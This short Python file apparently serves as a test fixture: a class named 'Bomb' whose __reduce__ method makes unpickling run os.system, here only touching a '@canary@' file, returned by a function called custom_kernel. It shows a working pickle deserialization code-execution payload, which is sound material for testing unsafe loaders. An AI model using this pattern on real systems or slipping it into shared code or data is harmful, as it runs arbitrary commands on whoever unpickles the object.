"""Returns an object whose unpickling runs a command in the process that unpickles it."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @canary@",)


def custom_kernel(data):
    return Bomb()
